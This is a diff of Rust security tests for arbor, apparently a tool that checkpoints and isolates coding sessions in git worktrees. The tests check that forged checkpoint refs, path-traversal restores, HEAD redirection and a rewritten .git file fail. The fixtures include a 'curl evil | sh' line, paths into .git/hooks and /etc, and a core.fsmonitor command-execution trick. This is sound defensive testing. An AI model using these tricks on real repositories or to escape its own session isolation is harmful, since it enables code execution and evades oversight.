@@ -178,3 +178,115 @@ fn parallel_worktrees_of_one_repository_are_all_created() {
     });
     assert!(failures.is_empty(), "{failures:#?}");
 }
+
+/// Issue 34: a session's `bash` can rewrite `refs/arbor/*`; the rewind reads the
+/// checkpoint record kept with the session, so a forged ref restores nothing.
+#[test]
+fn a_forged_checkpoint_ref_is_not_what_a_rewind_restores() {
+    let main = repo();
+    let private = tempfile::tempdir().unwrap();
+    let store = private.path().join("checkpoints.git");
+    let cp = Checkpoints::open(main.path(), "s1", &store).unwrap();
+    cp.before_turn(1).unwrap();
+    std::fs::write(main.path().join("app.py"), "VALUE = 1\n").unwrap();
+    cp.after_turn().unwrap();
+    // The forger: a tree holding `evil.sh`, under the turn's ref.
+    let git = git::Git::at(main.path());
+    std::fs::write(main.path().join("evil.sh"), "curl evil | sh\n").unwrap();
+    let forged = git.snapshot().unwrap();
+    std::fs::remove_file(main.path().join("evil.sh")).unwrap();
+    git.run(&["update-ref", "refs/arbor/s1/1", &forged])
+        .unwrap();
+    let done = cp.rewind(0, 1, false).unwrap();
+    assert_eq!(done.files, vec!["app.py".to_string()]);
+    assert_eq!(read(&main.path().join("app.py")), "VALUE = 0\n");
+    assert!(
+        !main.path().join("evil.sh").exists(),
+        "forged tree restored"
+    );
+}
+
+/// Issue 34: a tree naming `.git/hooks/pre-commit`, `../x` or a path through a
+/// symlinked directory is refused whole, before anything is written.
+#[test]
+fn a_restore_refuses_git_dirs_parents_and_symlinked_parents() {
+    let main = repo();
+    let outside = tempfile::tempdir().unwrap();
+    std::os::unix::fs::symlink(outside.path(), main.path().join("link")).unwrap();
+    let git = git::Git::at(main.path());
+    let tree = git.snapshot().unwrap();
+    for bad in [
+        ".git/hooks/pre-commit",
+        "../x",
+        "/etc/x",
+        "link/x",
+        "sub/.GIT/config",
+    ] {
+        let err = git
+            .restore(&tree, main.path(), &["app.py".into(), bad.into()])
+            .unwrap_err();
+        assert!(
+            matches!(err, IsolationError::UnsafePath { .. }),
+            "{bad}: {err}"
+        );
+    }
+    assert!(!main.path().join(".git/hooks/pre-commit").exists());
+    assert!(std::fs::read_dir(outside.path()).unwrap().next().is_none());
+    assert_eq!(read(&main.path().join("app.py")), "VALUE = 0\n");
+}
+
+/// Issue 34: a child that points its worktree's `HEAD` at the person's branch does
+/// not get arbor's end-of-turn commit onto it: the commit goes to its own branch.
+#[test]
+fn a_worktree_commit_goes_to_its_branch_whatever_head_says() {
+    let main = repo();
+    let state = tempfile::tempdir().unwrap();
+    let wt = WorktreeRecord::create(main.path(), "abcd1234", state.path()).unwrap();
+    let main_git = git::Git::at(main.path());
+    let branch = main_git.run(&["symbolic-ref", "--short", "HEAD"]).unwrap();
+    let before = main_git.commit_of(&branch).unwrap();
+    let head_file = wt.git_dir.clone().unwrap().join("HEAD");
+    std::fs::write(&head_file, format!("ref: refs/heads/{branch}\n")).unwrap();
+    std::fs::write(wt.path.join("app.py"), "VALUE = 'child'\n").unwrap();
+    assert!(wt.commit("turn 1").unwrap());
+    assert_eq!(
+        main_git.commit_of(&branch).unwrap(),
+        before,
+        "person's branch moved"
+    );
+    let tip = main_git.commit_of(&wt.branch).unwrap().unwrap();
+    let shown = main_git.run(&["show", &format!("{tip}:app.py")]).unwrap();
+    assert_eq!(shown, "VALUE = 'child'");
+    assert!(!wt.commit("turn 2").unwrap(), "nothing new to commit");
+}
+
+/// Issue 34: a worktree child that rewrites its `.git` file to point at a repository
+/// it controls does not redirect arbor's commit there.
+#[test]
+fn a_rewritten_worktree_git_file_does_not_redirect_arbors_commit() {
+    let main = repo();
+    let state = tempfile::tempdir().unwrap();
+    let wt = WorktreeRecord::create(main.path(), "abcd1234", state.path()).unwrap();
+    let evil = tempfile::tempdir().unwrap();
+    git::Git::at(evil.path()).run(&["init", "--quiet"]).unwrap();
+    let marker = evil.path().join("PWNED");
+    git::Git::at(evil.path())
+        .run(&[
+            "config",
+            "core.fsmonitor",
+            &format!("touch {}", marker.display()),
+        ])
+        .unwrap();
+    std::fs::write(
+        wt.path.join(".git"),
+        format!("gitdir: {}\n", evil.path().join(".git").display()),
+    )
+    .unwrap();
+    std::fs::write(wt.path.join("app.py"), "VALUE = 'child'\n").unwrap();
+    assert!(wt.commit("turn 1").unwrap());
+    assert!(!marker.exists());
+    let tip = git::Git::at(main.path()).commit_of(&wt.branch).unwrap();
+    assert!(tip.is_some());
+    let evil_head = git::Git::at(evil.path()).commit_of("HEAD").unwrap();
+    assert!(evil_head.is_none(), "commit went to the forged repository");
+}
